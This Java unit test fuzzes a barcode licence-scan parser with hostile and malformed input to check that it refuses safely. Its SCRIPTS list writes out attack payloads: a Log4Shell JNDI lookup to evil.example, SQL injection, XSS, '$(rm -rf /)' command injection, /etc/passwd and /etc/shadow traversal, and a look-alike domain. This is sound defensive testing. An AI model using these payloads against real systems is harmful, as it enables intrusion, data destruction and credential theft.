package org.vestibule.scan;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

import java.net.URI;
import java.time.Duration;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.regex.Matcher;

/** Two hundred scans that mean harm or are mere noise, through the buffer and both readers. */
@DisplayName("Hostile scans: a kind refusal or a name made of letters, never an exception")
class HostileScansTest {
    private static final LocalDate TODAY = LocalDate.of(2026, 11, 23);
    private static final int SEEDS = 25;
    private static final InvitationScan LETTERS =
            new InvitationScan(URI.create("https://portal.elmstreet.example"));
    private static final List<CardSample> CARDS = CardSample.all();

    /** That begin with the sign that says so. */
    private static final List<CardSample> SIGNED =
            CARDS.stream().filter(card -> "@%".indexOf(card.text().charAt(0)) >= 0).toList();

    /** Eight kinds of harm, each made from a seed. */
    enum Harm {
        SCRIPT_FOR_A_NAME(true) {
            @Override
            String make(Random random) {
                return withName(random, pick(random, SCRIPTS));
            }
        },
        HIDDEN_OR_LOOK_ALIKE(true) {
            @Override
            String make(Random random) {
                var name = new StringBuilder("NAME");
                var at = random.nextInt(name.length() + 1);
                return withName(random, name.insert(at, pick(random, HIDDEN)).toString());
            }
        },
        BARE_SCRIPT(true) {
            @Override
            String make(Random random) {
                return pick(random, SCRIPTS) + pick(random, HIDDEN) + random.nextInt();
            }
        },
        FOUR_KILOBYTES(true) {
            @Override
            String make(Random random) {
                var text = new StringBuilder(pick(random, CARDS).text());
                while (text.length() < 4_096) text.append((char) (' ' + random.nextInt(95)));
                return text.toString();
            }
        },
        TWO_AT_ONCE(true) {
            @Override
            String make(Random random) {
                var one = random.nextInt(SIGNED.size());
                var other = (one + 1 + random.nextInt(SIGNED.size() - 1)) % SIGNED.size();
                return interleaved(random, SIGNED.get(one).text(), SIGNED.get(other).text());
            }
        },
        ANY_CHARACTERS(true) {
            @Override
            String make(Random random) {
                var text = new StringBuilder(random.nextBoolean() ? "@" : "%");
                random.ints(8 + random.nextInt(600), 0, 0x10000)
                        .forEach(c -> text.append((char) c));
                return text.toString();
            }
        },
        KEYS_LOST(false) {
            @Override
            String make(Random random) {
                var text = new StringBuilder(pick(random, CARDS).text());
                for (var lost = random.nextInt(40); lost >= 0; lost--) {
                    text.deleteCharAt(random.nextInt(text.length()));
                }
                return text.toString();
            }
        },
        CONTROLS_SPRINKLED(false) {
            @Override
            String make(Random random) {
                var text = new StringBuilder(pick(random, CARDS).text());
                for (var more = random.nextInt(40); more >= 0; more--) {
                    text.insert(random.nextInt(text.length()), (char) random.nextInt(32));
                }
                return text.toString();
            }
        };

        /** Whether nothing good can come of it. */
        final boolean hopeless;

        Harm(boolean hopeless) {
            this.hopeless = hopeless;
        }

        abstract String make(Random random);
    }

    private static final List<String> SCRIPTS =
            List.of(
                    "javascript:alert(1)",
                    "file:///etc/passwd",
                    "data:text/html;base64,AAAA",
                    "'; DROP TABLE enrollments; --",
                    "\" OR \"\"=\"",
                    "<img src=x onerror=alert(1)>",
                    "${jndi:ldap://evil.example/a}",
                    "$(rm -rf /)",
                    "../../../../etc/shadow",
                    "https://portal.elmstreet.example.evil.example/a/7K3QH9XW2MPD5RTVB8NFGJ4CAE");

    private static final List<String> HIDDEN =
            List.of(
                    "\u202E", "\u2066", "\u200F", "\u200B", "\u00AD", "\uFEFF", "О", "Ι", "Ａ１",
                    "\uD800");

    private static <T> T pick(Random random, List<T> some) {
        return some.get(random.nextInt(some.size()));
    }

    private static String withName(Random random, String name) {
        var family = random.nextBoolean();
        return CardSample.of("tx-08")
                .text()
                .replaceFirst(
                        family ? "DCS[^\n]*" : "DAC[^\n]*",
                        Matcher.quoteReplacement((family ? "DCS" : "DAC") + name));
    }

    private static String interleaved(Random random, String one, String other) {
        var text = new StringBuilder();
        int first = 0;
        int second = 0;
        while (first < one.length() || second < other.length()) {
            var takeFirst = first < one.length() && random.nextBoolean();
            if (takeFirst || second == other.length()) text.append(one.charAt(first++));
            else text.append(other.charAt(second++));
        }
        return text.toString();
    }

    @ParameterizedTest
    @EnumSource(Harm.class)
    void noHarmIsDone(Harm harm) {
        for (var seed = 0; seed < SEEDS; seed++) {
            var random = new Random(31L * harm.name().hashCode() + seed);
            var raw = harm.make(random);
            for (var scan : typed(raw, random)) {
                var read = LicenseScan.read(scan, TODAY);
                if (harm.hopeless) {
                    assertThat(read).as("seed %s", seed).isNotInstanceOf(LicenseRead.License.class);
                    assertThat(LETTERS.classify(scan)).isInstanceOf(Scanned.Noise.class);
                }
                if (read instanceof LicenseRead.License(var given, var family, _, var born)) {
                    assertThat(given + family).matches("[\\p{IsLatin}\\p{M}0-9 .'’`-]*");
                    assertThat(born).isBetween(TODAY.minusYears(126), TODAY);
                }
                assertThat(LETTERS.classify(scan)).isNotNull();
            }
        }
    }

    /** As the buffer hears it: with pauses of its own, with an Enter or without. */
    private static List<String> typed(String raw, Random random) {
        var buffer = new ScanBuffer(ScanBuffer.STANDARD_GAP);
        var scans = new ArrayList<String>();
        var now = random.nextLong();
        for (var at = 0; at < raw.length(); at++) {
            now += Duration.ofMillis(random.nextInt(20)).toNanos();
            buffer.typed(raw.charAt(at), now).ifPresent(scans::add);
        }
        if (random.nextBoolean()) buffer.typed('\r', now).ifPresent(scans::add);
        now += ScanBuffer.CARD_GAP.multipliedBy(2).toNanos();
        buffer.pause(now).ifPresent(scans::add);
        assertThat(scans).allMatch(scan -> scan.length() <= 4_096);
        return scans;
    }
}
